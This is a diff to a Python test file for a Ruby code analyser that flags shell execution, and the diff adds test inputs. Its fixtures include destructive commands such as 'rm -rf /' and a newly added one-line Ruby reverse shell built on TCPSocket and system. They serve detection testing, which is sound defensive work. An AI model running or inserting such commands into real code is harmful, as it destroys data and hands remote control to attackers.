@@ -40,6 +40,7 @@ FILES: list[tuple[str, list[Fact]]] = [
 
 RUNS: list[tuple[str, list[Fact]]] = [
     ('system("rm -rf /"); system("rm", "-rf", "/")', [("shell", "rm -rf /"), ("run", "rm", "-rf", "/")]),
+    ('s = TCPSocket.new("h", 1); system(s.gets)', [("reverse_shell", "h:1")]),
     ("exec 'ls'; `id`; %x(pwd)", [("shell", "ls"), ("shell", "id"), ("shell", "pwd")]),
     ('IO.popen(["rm", "-rf", "y"]); open("|ls")', [("run", "rm", "-rf", "y"), ("shell", "ls")]),
     ('IO.popen("sh", "w") { |p| p.puts "rm -rf /" }', [("shell", "sh"), ("shell", "rm -rf /")]),
@@ -103,6 +104,7 @@ BENIGN = [
     "def foo(a, b = 1, *c, d: 2, &blk) = a + b",
     'puts "#{"a" + "#{1 + 1}"}"',
     "=begin\nsystem('x')\n=end\nputs 1",
+    "rows = [" + '{id: 1, name: "a"}, ' * 400 + "]; puts rows.length",
 ]
 
 
@@ -120,7 +122,7 @@ def test_harmless_ruby_tells_nothing(source: str) -> None:
     assert out.told == []
 
 
-@pytest.mark.parametrize("source", ['system("abc', "if x", "[" * 5000, '"#{' * 3000, "%w("])
+@pytest.mark.parametrize("source", ['system("abc', "if x", "[" * 5000, '"#{' * 3000, "%w(", "!" * 900 + "x"])
 def test_ruby_that_does_not_parse_is_told(source: str) -> None:
     out = Recorder()
     read_ruby(source, out)
